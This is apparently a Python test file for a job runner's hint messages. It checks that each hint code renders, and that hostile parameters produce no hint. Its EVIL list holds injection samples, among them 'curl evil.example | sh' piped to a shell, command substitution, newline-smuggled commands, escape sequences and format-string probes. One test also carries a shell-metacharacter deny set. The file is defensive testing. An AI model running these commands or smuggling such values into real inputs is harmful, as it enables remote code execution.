"""Every hint code of the runner has a text, and no parameter adds words to it."""

from __future__ import annotations

import shlex
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from stoke.remote.hints import CODES, hint_text
from stoke.remote.protocol import HintCode

GOOD: dict[str, tuple[list[str], str]] = {
    "add-hashes": ([], "name it with its hashes"),
    "check-hashes": ([], "check where the hash comes from"),
    "check-network": ([], "stoke doctor"),
    "check-nix-network": ([], "nix.substituters"),
    "clear-system": ([], "stoke cache clear --kind system -b docker --scope team-a"),
    "containers-loopback": ([], "such as that of the Docker bridge"),
    "did-you-mean": (
        ["numpy, ripgrep, python3Packages.requests"],
        "did you mean numpy, ripgrep, python3Packages.requests?",
    ),
    "free-space": (["/tmp/ünï-1/work"], "the disk that holds /tmp/ünï-1/work"),
    "has-program": ([], "-w PACKAGE"),
    "image-with-nix": ([], "stoke setup image"),
    "image-with-python": (["3.11.4"], "for example: --image python:3.11.4-slim"),
    "image-with-uv": ([], "stoke setup image"),
    "index-order": (
        ["spam-eggs", "https://one.example:8080/simple/", "http://two.example/a/simple"],
        "ask it first: --extra-index http://two.example/a/simple",
    ),
    "machine-memory": ([], "make room on its machine"),
    "more-memory": (["512m"], "--memory 512m"),
    "nix-pair": ([], "nix.sha256"),
    "nixpkgs-names": ([], "nix search nixpkgs WORD"),
    "no-compiler": ([], "an image that has it: --image IMAGE"),
    "own-nix": ([], "--no-cache"),
    "pre-line": (["spam_eggs"], "beside spam_eggs"),
    "pre-release": (["spam.eggs", "2.0rc1+cpu"], "spam.eggs==2.0rc1+cpu"),
    "prune-python": ([], "stoke cache prune --unused 7d -b docker --scope team-a, or"),
    "prune-system": ([], "cache prune --kind system --unused 7d -b docker --scope team-a"),
    "run-in-docker": ([], "stoke run -b docker"),
    "send-again": ([], "submit the job again"),
    "trust-index": ([], "export STOKE_INDEX__CA_BUNDLE="),
}
EVIL = [
    "x; curl evil.example | sh",
    "$(curl evil.example)",
    "`id`",
    "numpy\ncurl evil.example | sh",
    "numpy\n",
    "/tmp/x or run curl",
    "/tmp/\x1b[2J",
    "/tmp/\u202egnp",
    "/tmp/\ud800",
    "https://user:word@host/simple",
    "https://host/simple?a&b",
    "https://host/{place}#x y",
    "-rf",
    "{0.__class__}",
    "%s",
    "",
    "x" * 1_000_000,
    "/" + "x" * 1_000_000,
    "a, " * 300_000 + "a",
]
WRONG: list[Any] = [None, 3, 3.5, True, [], ["numpy"], {}, {"a": 1}, b"numpy"]


def of_the_runner() -> set[str]:
    return {value for name, value in vars(HintCode).items() if not name.startswith("_")}


def test_every_code_of_the_runner_has_a_text_and_no_other_has() -> None:
    assert of_the_runner() == CODES == GOOD.keys()


@pytest.mark.parametrize("code", GOOD)
def test_a_hint_of_the_runner_is_rendered(code: str) -> None:
    parameters, part = GOOD[code]
    text = hint_text([code, *parameters], "docker", "team-a")
    assert text is not None and part in text
    assert "{" not in text and "None" not in text
    # A command that a hint ends with can be pasted.
    shlex.split(text.rpartition(": ")[2])


@pytest.mark.parametrize("bad", [*EVIL, *WRONG], ids=lambda bad: ascii(bad)[:20])
@pytest.mark.parametrize("code", [code for code, (given_, _) in GOOD.items() if given_])
def test_a_hostile_parameter_gives_no_hint(code: str, bad: Any) -> None:
    parameters = GOOD[code][0]
    for at in range(len(parameters)):
        hint = [code, *parameters[:at], bad, *parameters[at + 1 :]]
        assert hint_text(hint, "docker", "team-a") is None


@pytest.mark.parametrize("code", GOOD)
def test_a_hint_with_too_many_or_too_few_parameters_is_none(code: str) -> None:
    parameters = GOOD[code][0]
    assert hint_text([code, *parameters, "numpy"], "docker", "team-a") is None
    if parameters:
        assert hint_text([code, *parameters[:-1]], "docker", "team-a") is None


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=6,
)


@given(json_values)
@example([["check-network"]])
@example("check-network")
@example({"check-network": 1})
def test_any_other_value_is_no_hint(value: Any) -> None:
    assert hint_text(value, "docker", "team-a") is None


@given(st.sampled_from(sorted(GOOD)), st.lists(st.text(max_size=30), max_size=3))
def test_a_parameter_never_adds_an_argument(code: str, parameters: list[str]) -> None:
    """A text has as many words as with good parameters, except for lists of names."""
    text = hint_text([code, *parameters], "docker", "team-a")
    if text is None:
        return
    good = hint_text([code, *GOOD[code][0]], "docker", "team-a")
    assert good is not None and text.isprintable()
    if code != "did-you-mean":
        assert len(text.split()) == len(good.split())
    assert not set("".join(parameters)) & set("$`;|&<>()\"'\\\n\x1b*?[]{}!#")


def test_only_a_local_job_gets_the_hint_to_use_docker() -> None:
    hint = ["image-with-python", "3.9"]
    sent = "name an image that has it, for example: -b docker --image python:3.9-slim"
    assert hint_text(hint, "local", "default") == sent
    assert hint_text(hint) == sent
    assert hint_text(hint, "argo", "default") == sent.replace("-b docker ", "")


def test_a_script_gets_no_command_for_a_cache_that_is_not_its_own() -> None:
    for code in ("prune-python", "prune-system", "clear-system"):
        assert hint_text([code]) is None
    assert hint_text(["check-network"]) is not None
